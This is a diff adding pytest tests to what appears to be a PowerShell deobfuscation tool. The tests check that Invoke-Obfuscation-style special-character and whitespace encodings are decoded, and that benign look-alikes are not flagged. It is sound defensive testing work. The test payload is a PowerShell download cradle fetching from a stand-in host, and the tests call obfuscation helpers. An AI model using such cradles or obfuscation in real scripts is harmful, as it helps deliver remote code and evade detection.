@@ -9,6 +9,7 @@ import zlib
 import pytest
 
 from threatscope.powershell import deobfuscate, extract_iocs
+from threatscope.powershell.obfuscate import special_chars_command, whitespace_command
 
 GOAL = "Write-Host ok"
 
@@ -335,3 +336,39 @@ def test_noise_is_not_read_as_text():
     """No text in the bytes: the strict decode stays (nothing is made up), no lenient runs."""
     r = deobfuscate("powershell -enc BBBBAAAAAAAAAAAAAAAACCCCCCCCCCCCCCCC")
     assert r.layers and not (r.reason or "").startswith("base64 damaged")
+
+
+PAYLOAD = "Write-Host \"hi\" $env:TEMP; (New-Object Net.WebClient).DownloadString('http://a.example.com/x')"
+
+
+@pytest.mark.parametrize("seed", range(6))
+def test_special_characters_encoding(seed):
+    """Invoke-Obfuscation's ${;}=+$();${=}=${;};${+}=++${;}... form, evaluated statement by statement."""
+    script = special_chars_command(PAYLOAD, random.Random(seed))
+    r = deobfuscate(script)
+    assert r.final == PAYLOAD, (r.layers, r.reason)
+    assert r.layers[0].technique == "special-chars" and r.layers[0].text.endswith("|iex\"|&'iex'")
+    assert "special-chars" in r.techniques and not r.truncated
+
+
+def test_special_character_variables_alone_are_no_layer():
+    counting = ("${;}=+$();${=}=${;};${+}=++${;};${@}=++${;};${.}=++${;};${[}=++${;};${]}=++${;};"
+                "${(}=++${;};${)}=++${;};${&}=++${;};${|}=++${;};\nWrite-Host \"${+}${@} of ${|}\"")
+    assert deobfuscate(counting).layers == []
+    braces = "${my var} = 1; ${env:ProgramFiles(x86)}; ${a}=++${my var}; Write-Output \"${a}\""
+    assert deobfuscate(braces).layers == []
+
+
+@pytest.mark.parametrize("seed", range(6))
+def test_whitespace_encoding_digits(seed):
+    """Invoke-Obfuscation's whitespace form: digits as runs (digit + 1 long), read by .Length-1."""
+    script = whitespace_command(PAYLOAD, random.Random(seed))
+    assert set(script.split("'")[1]) == {" ", "\t"}
+    r = deobfuscate(script)
+    assert r.layers[0].technique == "whitespace-encoding" and r.final == PAYLOAD, (r.layers, r.reason)
+
+
+def test_whitespace_strings_alone_are_no_layer():
+    script = ("$indent = '    \t    \t        \t\t    '\n$w = $indent.Length - 1\n"
+              "& (Get-Command Write-Host) ($indent + 'x')")
+    assert deobfuscate(script).layers == []
